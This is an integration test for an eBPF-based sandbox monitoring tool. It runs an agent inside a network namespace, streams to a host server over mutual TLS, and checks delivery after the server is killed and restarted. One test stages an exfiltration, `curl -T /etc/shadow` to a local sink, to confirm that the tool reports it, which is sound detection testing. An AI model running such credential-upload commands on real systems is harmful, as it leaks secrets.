import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmdirSync, statSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cgroupV2Root } from '../source/cgroups.js';
import { tcpSink } from '../testing/live-harness.js';
import { testPki, until } from '../testing/agent-link.js';
import { samples, scrape } from '../testing/prometheus.js';
import { adminStatus } from './admin-server.js';

/**
 * A stand-in for a Kata guest: a network namespace joined to the host by a
 * veth pair with link-local addresses that route nowhere else, and a cgroup
 * of its own. A real `chainwatch agent` (real probes, scoped to the guest's
 * cgroup) runs inside the namespace and streams to a real `chainwatch serve`
 * on the host side of the veth. Needs root, ip, bpftrace: fails loudly without.
 */
const HOST_IP = '169.254.200.1';
const GUEST_IP = '169.254.200.2';
const AGENT_METRICS_PORT = 19465;
const tag = String(process.pid % 100000);
const ns = `cw-guest-${tag}`;
const vethHost = `cwh${tag}`;
const vethGuest = `cwg${tag}`;
const dir = mkdtempSync(join(tmpdir(), 'cw-netns-'));
const cli = join(process.cwd(), 'dist/src/cli/main.js');
const pki = testPki(['guest-a'], [HOST_IP]);
const cgRoot = cgroupV2Root();
const cgPath = `/chainwatch-test-guest-${tag}`;
let servePort = 0;
let serve: ChildProcess | undefined;
let agent: ChildProcess | undefined;
const logs: string[] = [];

const ip = (...a: string[]): void => void execFileSync('ip', a, { stdio: 'pipe' });

function start(cmd: string[], name: string): ChildProcess {
  const c = spawn(cmd[0]!, cmd.slice(1), { stdio: ['ignore', 'ignore', 'pipe'], env: { ...process.env, CHAINWATCH_LOG_LEVEL: 'info' } });
  c.stderr!.on('data', (d: Buffer) => logs.push(...d.toString().split('\n').filter(Boolean).map((l) => `${name} ${l}`)));
  return c;
}

function startServe(): ChildProcess {
  return start(
    ['node', cli, 'serve', '--listen', `${HOST_IP}:${servePort}`, '--cert', pki.host!.cert, '--key', pki.host!.key, '--ca', pki.ca,
      '--admin', join(dir, 'admin.sock'), '--state', join(dir, 'state'), '--audit', join(dir, 'audit'),
      '--findings', join(dir, 'findings.jsonl'), '--events', join(dir, 'events.jsonl')],
    'serve',
  );
}

const logged = (who: string, msg: string): boolean => logs.some((l) => l.startsWith(`${who} `) && l.includes(`"msg":"${msg}`));
/**
 * The lines of a JSON Lines file another process is writing: a last line
 * still being written (no newline yet) is not read. At most one line may be
 * cut off: the one serve was writing when the test SIGKILLs it (ended by the
 * restarted serve, which appends after it).
 */
const readJsonl = <T>(file: string): T[] => {
  if (!existsSync(file)) return [];
  const text = readFileSync(file, 'utf8');
  const lines = text.split('\n');
  lines.pop(); // '' after the last newline, or a line still being written
  const parsed: T[] = [];
  let torn = 0;
  for (const l of lines) {
    try {
      parsed.push(JSON.parse(l) as T);
    } catch {
      torn++;
    }
  }
  expect(torn, `${file}: lines that are not JSON`).toBeLessThanOrEqual(1);
  return parsed;
};

/** Runs a shell script inside the guest: its network namespace (nsenter) and its cgroup. */
function inGuest(script: string): Promise<number | null> {
  const procs = join(cgRoot, cgPath, 'cgroup.procs');
  const c = spawn('nsenter', [`--net=/run/netns/${ns}`, 'bash', '-c', `echo $$ > ${procs} && exec bash -c "$CW_SCRIPT"`], { env: { ...process.env, CW_SCRIPT: script }, stdio: 'ignore' });
  return new Promise((r) => c.once('exit', (code) => r(code)));
}

beforeAll(async () => {
  if (process.getuid?.() !== 0) throw new Error('the netns agent test needs root');
  try {
    ip('netns', 'del', ns);
  } catch {
    // none left over
  }
  ip('netns', 'add', ns);
  ip('link', 'add', vethHost, 'type', 'veth', 'peer', 'name', vethGuest);
  ip('link', 'set', vethGuest, 'netns', ns);
  ip('addr', 'add', `${HOST_IP}/30`, 'dev', vethHost);
  ip('link', 'set', vethHost, 'up');
  ip('netns', 'exec', ns, 'ip', 'addr', 'add', `${GUEST_IP}/30`, 'dev', vethGuest);
  ip('netns', 'exec', ns, 'ip', 'link', 'set', vethGuest, 'up');
  ip('netns', 'exec', ns, 'ip', 'link', 'set', 'lo', 'up');
  mkdirSync(join(cgRoot, cgPath), { recursive: true });
  // a free port on the host side of the veth, kept across the serve restart
  const s = createServer();
  await new Promise<void>((r) => s.listen(0, HOST_IP, () => r()));
  servePort = (s.address() as { port: number }).port;
  await new Promise((r) => s.close(r));
  serve = startServe();
  await until(() => logged('serve', 'ready'), 20_000, 'serve ready');
  agent = start(
    // nsenter joins only the network namespace (ip netns exec would also remount /sys, hiding the cgroup tree)
    ['nsenter', `--net=/run/netns/${ns}`, 'node', cli, 'agent', '--connect', `${HOST_IP}:${servePort}`, '--cert', pki.agents['guest-a']!.cert, '--key', pki.agents['guest-a']!.key,
      '--ca', pki.ca, '--spool', join(dir, 'spool'), '--cgroup', cgPath, '--metrics', `${GUEST_IP}:${AGENT_METRICS_PORT}`],
    'agent',
  );
  await until(() => logged('agent', 'streaming to the host') && logged('agent', 'probes attached'), 90_000, 'agent attached and streaming');
}, 180_000);

afterAll(async () => {
  agent?.kill('SIGKILL');
  serve?.kill('SIGKILL');
  try {
    ip('link', 'del', vethHost);
  } catch {
    // gone with the namespace
  }
  try {
    ip('netns', 'del', ns);
  } catch {
    // already gone
  }
  try {
    rmdirSync(join(cgRoot, cgPath));
  } catch {
    // still populated: left to the kernel
  }
});

describe('live: agent in a network namespace → serve on the host (mutual TLS over a veth)', () => {
  it('a read-then-transmit chain inside the guest is a finding attributed to the sandbox its certificate names', async () => {
    const sink = await tcpSink(HOST_IP);
    try {
      const code = await inGuest(`curl -sS --max-time 2 -T /etc/shadow http://${HOST_IP}:${sink.port}/ || true`);
      expect(code).not.toBeNull();
      const findings = join(dir, 'findings.jsonl');
      await until(() => readJsonl<{ rule: string; task: string }>(findings).some((f) => f.rule === 'exfil.read-then-transmit' && f.task === 'guest-a'), 20_000, 'the exfiltration finding on the host');
      const f = readJsonl<{ rule: string; task: string; source: { path: string }; sink: { address: string; port: number }; process: { comm: string } }>(findings).find((x) => x.rule === 'exfil.read-then-transmit')!;
      expect(f.source.path).toBe('/etc/shadow');
      expect(f.sink).toMatchObject({ address: HOST_IP, port: sink.port });
      expect(f.process.comm).toBe('curl');
    } finally {
      await sink.close();
    }
  }, 60_000);

  it('serve killed (SIGKILL) and restarted mid-stream: every event reaches the host (at least once), the sequence numbers show no gap', async () => {
    const marks = 150;
    const work = inGuest(`for i in $(seq 1 ${marks}); do : > /tmp/cw-mark-${tag}-$i; sleep 0.01; done; rm -f /tmp/cw-mark-${tag}-*`);
    await new Promise((r) => setTimeout(r, 500));
    serve!.kill('SIGKILL');
    await new Promise((r) => serve!.once('exit', r));
    await new Promise((r) => setTimeout(r, 700));
    serve = startServe();
    expect(await work).toBe(0);
    // the agent reconnects (backoff at most 5 s) and resends what the killed host had not acknowledged
    const events = join(dir, 'events.jsonl');
    const markPaths = (): Set<string> =>
      new Set(
        readJsonl<{ kind: string; path?: string }>(events)
          .filter((e) => e.kind === 'file.open' && e.path?.startsWith(`/tmp/cw-mark-${tag}-`))
          .map((e) => e.path!),
      );
    await until(() => markPaths().size === marks, 30_000, `all ${marks} markers on the host (have ${markPaths().size})`);
    await until(() => logs.filter((l) => l.startsWith('agent ') && l.includes('"msg":"streaming to the host"')).length >= 2, 10_000, 'the agent reconnected');
    const st = (await adminStatus(join(dir, 'admin.sock'))) as { agents: { sandbox: string; gaps: number; connected: boolean; next_seq: number }[] };
    const a = st.agents.find((x) => x.sandbox === 'guest-a')!;
    expect(a.connected).toBe(true);
    expect(a.gaps).toBe(0);
    // delivery is at least once: the host writes, then records the sequence number, then acknowledges; a kill between
    // the first two makes the agent resend what arrived in those last 10 ms, which then appears twice. Never more than twice:
    const opens = readJsonl<{ kind: string; path?: string }>(events).filter((e) => e.kind === 'file.open' && e.path?.startsWith(`/tmp/cw-mark-${tag}-`));
    const times = new Map<string, number>();
    for (const o of opens) times.set(o.path!, (times.get(o.path!) ?? 0) + 1);
    expect(Math.max(...times.values())).toBeLessThanOrEqual(2);
    expect(readJsonl<{ rule: string }>(join(dir, 'findings.jsonl')).filter((f) => f.rule === 'agent.gap')).toEqual([]);
    // the agent's own metrics, scraped from the host over the veth: the reconnect, nothing dropped, the spool drained
    let m = new Map<string, number>();
    for (let i = 0; i < 50 && m.get('chainwatch_link_spooled_batches') !== 0; i++) {
      if (i > 0) await new Promise((r) => setTimeout(r, 200));
      m = samples((await scrape(AGENT_METRICS_PORT, '/metrics', GUEST_IP)).body);
    }
    expect(m.get('chainwatch_link_connected')).toBe(1);
    expect(m.get('chainwatch_link_connects_total')).toBeGreaterThanOrEqual(2);
    expect(m.get('chainwatch_link_dropped_events_total')).toBe(0);
    expect(m.get('chainwatch_link_acked_events_total')).toBeGreaterThan(marks);
    expect(m.get('chainwatch_events_total')).toBeGreaterThanOrEqual(m.get('chainwatch_link_acked_events_total')!);
    expect(m.get('chainwatch_events_lost_total{source="kernel"}') ?? 0).toBe(0);
  }, 90_000);
});
